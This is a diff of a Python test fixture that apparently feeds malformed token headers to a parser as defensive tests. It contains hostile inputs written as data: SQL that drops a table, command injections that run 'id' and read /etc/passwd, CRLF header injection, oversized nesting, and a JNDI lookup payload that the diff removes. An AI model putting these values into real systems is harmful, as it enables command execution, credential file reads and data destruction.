@@ -99,7 +99,7 @@ _TEXTS: Mapping[str, bytes] = {
     "header has NaN": _TEXT[:-1] + b',"x":NaN}',
     "header has a lone surrogate": _with("x", "\ud800"),
     "header is nested 65 deep": _TEXT[:-1] + b',"x":' + b"[" * 64 + b"]" * 64 + b"}",
-    "header is nested 100,000 deep": _TEXT[:-1] + b',"x":' + b"[" * 10**5 + b"]" * 10**5 + b"}",
+    "header is nested 8,000 deep": _TEXT[:-1] + b',"x":' + b"[" * 8000 + b"]" * 8000 + b"}",
 }
 
 UNKNOWN_KIDS: Mapping[str, bytes] = {
@@ -120,7 +120,7 @@ UNKNOWN_KIDS: Mapping[str, bytes] = {
     "kid is SQL that drops a table": _with("kid", "ES256'; DROP TABLE keys; --"),
     "kid is a command": _with("kid", "ES256|/usr/bin/id"),
     "kid is a command with dollar": _with("kid", "$(cat /etc/passwd)"),
-    "kid is a template": _with("kid", "{{7*7}}${jndi:ldap://s3cret.example}"),
+    "kid is a template": _with("kid", "{{s3cret}}${s3cret}"),
     "kid is a pattern": _with("kid", ".*"),
     "kid has line feeds": _with("kid", "ES256\r\nX-Evil: s3cret"),
     "kid is of 1 MB": _with("kid", "s3cret" + "x" * 1024 * 1024),
